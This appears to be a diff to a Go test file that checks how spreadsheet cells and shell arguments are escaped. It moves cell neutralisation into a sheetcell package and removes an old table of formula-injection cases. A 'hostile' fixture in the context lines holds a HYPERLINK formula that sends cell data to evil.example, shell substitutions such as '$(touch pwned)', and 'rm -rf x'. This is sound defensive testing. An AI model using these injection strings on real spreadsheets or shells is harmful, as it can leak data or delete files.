@@ -16,6 +16,7 @@ import (
 	"github.com/awaf/awaf/internal/assess"
 	"github.com/awaf/awaf/internal/goldenfile"
 	"github.com/awaf/awaf/internal/lens"
+	"github.com/awaf/awaf/internal/sheetcell"
 )
 
 var exampleFile = filepath.Join("..", "..", "examples", "rag-chat", "awaf.yaml")
@@ -282,27 +283,6 @@ func TestPriorityMaps(t *testing.T) {
 	}
 }
 
-func TestCell(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"=1+1", "'=1+1"},
-		{"+SUM(A1)", "'+SUM(A1)"},
-		{"-2+3", "'-2+3"},
-		{"@SUM(A1)", "'@SUM(A1)"},
-		{"\t=cmd", "'\t=cmd"},
-		{"\r=cmd", "'\r=cmd"},
-		{`=HYPERLINK("http://x","y")`, `'=HYPERLINK("http://x","y")`},
-		{"plain", "plain"},
-		{"a=b", "a=b"},
-		{"", ""},
-		{"'quoted", "'quoted"},
-	}
-	for _, tt := range tests {
-		if got := Cell(tt.in); got != tt.want {
-			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
-		}
-	}
-}
-
 // hostile is an item whose every text field tries to break out of its format.
 func hostile() Item {
 	title := `=HYPERLINK("http://evil.example/?x="&A1,"click") it's "$(touch pwned)" ` + "`touch pwned2` $HOME \\ ; rm -rf x\nsecond line"
@@ -534,7 +514,7 @@ func FuzzShQuote(f *testing.F) {
 }
 
 // FuzzCell checks that a neutralized cell survives a CSV round trip and never starts
-// like a formula.
+// like a formula (a plain number may start with a sign).
 func FuzzCell(f *testing.F) {
 	for _, s := range []string{"=1", "+1", "-1", "@a", "\t", "\r\n", "a,b", `"q"`, ""} {
 		f.Add(s)
@@ -550,10 +530,10 @@ func FuzzCell(f *testing.F) {
 		}
 		got := recs[1][0]
 		// encoding/csv turns \r\n into \n inside quoted fields; compare on that.
-		if want := strings.ReplaceAll(Cell(s), "\r\n", "\n"); got != want {
+		if want := strings.ReplaceAll(sheetcell.Text(s), "\r\n", "\n"); got != want {
 			t.Fatalf("round trip %q -> %q, want %q", s, got, want)
 		}
-		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
+		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !sheetcell.Number(got) {
 			t.Fatalf("cell %q starts like a formula", got)
 		}
 	})
